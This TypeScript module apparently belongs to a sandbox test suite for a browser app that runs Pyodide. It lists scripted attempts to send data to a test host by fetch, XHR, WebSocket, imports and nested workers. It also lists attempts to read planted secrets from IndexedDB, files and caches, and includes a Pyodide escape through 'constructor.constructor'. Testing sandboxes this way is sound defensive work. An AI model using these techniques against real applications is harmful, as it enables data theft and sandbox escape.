/**
 * Attacks in JavaScript, for a worker's global scope: once Python holds `Function` it can run any of these. Each gives a
 * text. They also run in a plain worker of the app's origin, where all of them get through; so none is harmless by a slip
 * of its own.
 */
import type { Planted } from './storage';

export interface Attack {
  readonly name: string;
  /** An expression; awaited. */
  readonly script: string;
}

/** How long one may take. What hangs is blocked, and says so. */
const PATIENCE_MS = 1_500;

/** Ways to send something out. Where they get through, each makes `target` see its name. */
export function waysOut(target: string, ws: string): readonly Attack[] {
  const url = (name: string) => JSON.stringify(`${target}/${name}`);
  const reach = (name: string) => `fetch(${url(name)}, { mode: 'no-cors' })`;
  const blob = (source: string, type = 'text/javascript') =>
    `URL.createObjectURL(new Blob([${JSON.stringify(source)}], { type: ${JSON.stringify(type)} }))`;
  const report = (source: string) =>
    `(async () => { try { await ${source}; postMessage('through'); } catch (error) { postMessage(String(error)); } })()`;
  const heard = (made: string) =>
    `new Promise((r) => { const w = ${made}; w.onmessage = (e) => r(String(e.data)); w.onerror = () => r('error'); })`;
  return [
    { name: 'fetch', script: reach('fetch') },
    { name: 'posted', script: `fetch(${url('posted')}, { mode: 'no-cors', method: 'POST', body: 'secret' })` },
    {
      name: 'xhr-sync',
      script: `(() => { const x = new XMLHttpRequest(); x.open('GET', ${url('xhr-sync')}, false); x.send(); return x.status; })()`,
    },
    {
      name: 'xhr-async',
      script: `new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = () => r(x.status); x.open('GET', ${url('xhr-async')}); x.send(); })`,
    },
    {
      name: 'websocket',
      script: `new Promise((r) => { const w = new WebSocket(${JSON.stringify(`${ws}/websocket`)}); w.onopen = w.onerror = () => r('over'); })`,
    },
    {
      name: 'eventsource',
      script: `new Promise((r) => { const s = new EventSource(${url('eventsource')}); s.onopen = s.onerror = () => { s.close(); r('over'); }; })`,
    },
    { name: 'import', script: `import(${url('import')})` },
    { name: 'import-of-blob', script: `import(${blob(`import ${url('import-of-blob')}`)})` },
    {
      name: 'import-of-data',
      script: `import('data:text/javascript,' + encodeURIComponent(${JSON.stringify(`await ${reach('import-of-data')}`)}))`,
    },
    { name: 'import-scripts', script: `importScripts(${url('import-scripts')})` },
    { name: 'nested', script: heard(`new Worker(${blob(report(reach('nested')))})`) },
    {
      name: 'nested-module',
      script: heard(`new Worker(${blob(report(`import(${url('nested-module')})`))}, { type: 'module' })`),
    },
    {
      name: 'nested-twice',
      script: heard(`new Worker(${blob(`postMessage(1); new Worker(${blob(report(reach('nested-twice')))})`)})`),
    },
    {
      name: 'cache',
      script: `caches.open('x').then((cache) => cache.add(${url('cache')}))`,
    },
  ];
}

/** Ways to read what the app keeps; where they get through, each gives the secret. */
export function waysIn({ database, key }: Planted): readonly Attack[] {
  const done = `const done = (q) => new Promise((r, e) => { q.onsuccess = () => r(q.result); q.onerror = () => e(q.error); });`;
  return [
    {
      name: 'a database',
      script: `(async () => { ${done} const d = await done(indexedDB.open(${JSON.stringify(database)})); const s = ${JSON.stringify(key)}; const v = await done(d.transaction(s).objectStore(s).getAll()); d.close(); return v.join(); })()`,
    },
    {
      name: 'the documents of every corpus',
      script: `(async () => { ${done} const d = await done(indexedDB.open('burrow')); const v = await done(d.transaction('texts').objectStore('texts').getAll()); d.close(); return (await Promise.all(v.map((t) => t.text.text()))).join(); })()`,
    },
    {
      name: 'a file',
      script: `navigator.storage.getDirectory().then((d) => d.getFileHandle(${JSON.stringify(key)})).then((h) => h.getFile()).then((f) => f.text())`,
    },
    {
      name: 'a cache',
      script: `caches.open(${JSON.stringify(key)}).then((c) => c.matchAll()).then((all) => Promise.all(all.map((r) => r.text()))).then((t) => t.join())`,
    },
  ];
}

/** JavaScript that runs them all at once and gives a list of `name: what came of it`. */
export function together(attacks: readonly Attack[]): string {
  const each = attacks.map(
    ({ name, script }) =>
      `Promise.race([(async () => ${script})(), new Promise((r) => setTimeout(r, ${PATIENCE_MS}, 'nothing'))])` +
      `.then((value) => ${JSON.stringify(`${name}: `)} + (typeof value === 'object' ? 'through' : value), (error) => ${JSON.stringify(`${name}: blocked, `)} + error)`,
  );
  return `return Promise.all([${each.join(',\n')}])`;
}

/** Python that gets hold of JavaScript's `Function` by a walk that removing names cannot stop. */
export function inPython(body: string): string {
  return [
    'from pyodide.ffi import run_sync, to_js',
    `print(run_sync(to_js([1]).constructor.constructor(${JSON.stringify(body)})()))`,
  ].join('\n');
}
